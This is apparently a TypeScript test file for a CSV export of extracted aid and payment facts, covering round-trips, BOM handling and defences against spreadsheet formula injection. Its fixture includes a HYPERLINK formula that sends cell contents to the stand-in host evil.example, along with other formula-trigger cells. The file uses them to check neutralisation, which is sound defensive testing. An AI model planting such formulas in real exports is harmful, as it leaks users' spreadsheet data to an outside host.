import * as assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import { CSV_COLUMNS, factsToCsv, factsToCsvRows, neutraliseFormula } from '../../../../src/core/export/csv';
import { exportArticles, exportOf, fromMarkup, MARKED } from './helpers';

const articles = exportArticles();

describe('facts CSV', () => {
  it('round-trips through csv-parse with the same values (quotes, commas, line breaks, emoji, BOM)', () => {
    const docs = [fromMarkup(MARKED), ...articles.map(exportOf)];
    const csv = factsToCsv(docs);
    assert.ok(csv.startsWith('\ufeff'), 'BOM for spreadsheets');
    assert.ok(csv.includes('\r\n'));
    const records = parse(csv, { bom: true, columns: true, skip_empty_lines: false }) as Array<Record<string, string>>;
    const expected = docs.flatMap(factsToCsvRows);
    assert.equal(records.length, expected.length);
    assert.deepEqual(records, expected);
    assert.deepEqual(Object.keys(records[0]), [...CSV_COLUMNS]);
    const italy = records.find((r) => r.actor === 'Italy')!;
    assert.deepEqual([italy.amount, italy.currency, italy.recipient, italy.category, italy.date_start], ['5000000', 'EUR', 'Chad', 'provide', '2025-04-04']);
  });

  it('writes object, purpose, co-actors, named and missing; can leave out facts below a confidence', () => {
    const doc = fromMarkup(
      '[Norway]{A:place}, [Sweden]{A:place} and [the city]{A:place:city:d} gave [€5 million]{M:5e6:EUR} in food aid to [Chad]{A:place} for schools. ' +
        '[€2 million]{M:2e6:EUR} was paid to [Mali]{A:place}.',
    );
    const rows = factsToCsvRows(doc);
    assert.deepEqual(
      rows.map((r) => [r.actor, r.co_actors, r.actor_named, r.recipient_named, r.object, r.purpose, r.missing]),
      [
        ['Norway', 'Sweden; city', 'true', 'true', 'food aid', 'schools', ''],
        ['', '', '', 'true', '', '', 'actor'],
      ],
    );
    const csv = factsToCsv([doc], { minConfidence: 0.7 });
    const kept = parse(csv, { bom: true, columns: true }) as Array<Record<string, string>>;
    assert.deepEqual(kept.map((r) => r.amount), ['5000000']);
  });

  it('can leave out the BOM and the header', () => {
    const csv = factsToCsv([fromMarkup(MARKED)], { bom: false, header: false });
    assert.ok(!csv.startsWith('\ufeff') && !csv.startsWith('fact_id'));
  });
});

/**
 * Issue 8, item 10: cells a spreadsheet would run as formulas (OWASP: leading = + - @ tab CR) get a "'" in front by
 * default; cells that are just a number ("-5") stay numbers; `formulas: 'keep'` writes everything as found.
 */
describe('facts CSV: formula injection', () => {
  const HOSTILE =
    '=HYPERLINK("https://evil.example/?q="&A1,"Click") [Italy]{A:place} gave [€5 million]{M:5e6:EUR} to [Chad]{A:place}.\n' +
    '- [Acme]{A:organization:@SUM(1+1)} paid [$5 million]{M:-5e6:USD} to [Peru]{A:place:+Peru}.\n' +
    '[Spain]{A:place:\tSpain} gave [€2 million]{M:2e6:EUR} to [Mali]{A:place:\rMali} in [2024]{D:2024:2024-01-01:2024-12-31}.\n';
  const doc = fromMarkup(HOSTILE);
  const rowsOf = (csv: string) => parse(csv, { bom: true, columns: true }) as Array<Record<string, string>>;
  const TRIGGER = /^[=+\-@\t\r]/;
  const NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;

  it('the sample has facts whose cells start with each trigger character', () => {
    const raw = factsToCsvRows(doc).flatMap((r) => Object.values(r));
    for (const c of ['=', '-', '@', '+', '\t', '\r']) assert.ok(raw.some((v) => v.startsWith(c) && !NUMBER.test(v)), `a cell starting with ${JSON.stringify(c)}`);
  });

  it('by default no text cell starts with a formula character: each has a "\'" in front, nothing else changes', () => {
    const rows = rowsOf(factsToCsv([doc]));
    const raw = factsToCsvRows(doc);
    assert.equal(rows.length, raw.length);
    rows.forEach((row, i) => {
      for (const [col, value] of Object.entries(raw[i])) {
        const cell = row[col];
        if (TRIGGER.test(value) && !NUMBER.test(value)) assert.equal(cell, `'${value}`, `${col} neutralised`);
        else assert.equal(cell, value, `${col} as found`);
        assert.ok(!TRIGGER.test(cell) || NUMBER.test(cell), `${col}: ${JSON.stringify(cell)}`);
      }
    });
    assert.ok(rows.some((r) => r.sentence.startsWith(`'=HYPERLINK(`)));
    assert.ok(rows.some((r) => r.actor === "'@SUM(1+1)" && r.recipient === "'+Peru"));
  });

  it('a negative amount stays a number a spreadsheet can add up', () => {
    const row = rowsOf(factsToCsv([doc])).find((r) => r.amount.startsWith('-'));
    assert.equal(row?.amount, '-5000000');
  });

  it("formulas: 'keep' writes every value as found (round-trips exactly)", () => {
    assert.deepEqual(rowsOf(factsToCsv([doc], { formulas: 'keep' })), factsToCsvRows(doc));
  });

  it('neutraliseFormula: which cells get the prefix', () => {
    const cases: Array<[string, string]> = [
      ['=1+1', "'=1+1"],
      ['@SUM(A1)', "'@SUM(A1)"],
      ['+Peru', "'+Peru"],
      ['-5+A1', "'-5+A1"],
      ['-', "'-"],
      ['\t=1', "'\t=1"],
      ['\r=1', "'\r=1"],
      ['-5', '-5'],
      ['+3.5', '+3.5'],
      ['-1e21', '-1e21'],
      ['Italy', 'Italy'],
      ['', ''],
      ["'=already", "'=already"],
      [' =1', ' =1'],
    ];
    for (const [cell, out] of cases) assert.equal(neutraliseFormula(cell), out, JSON.stringify(cell));
  });
});
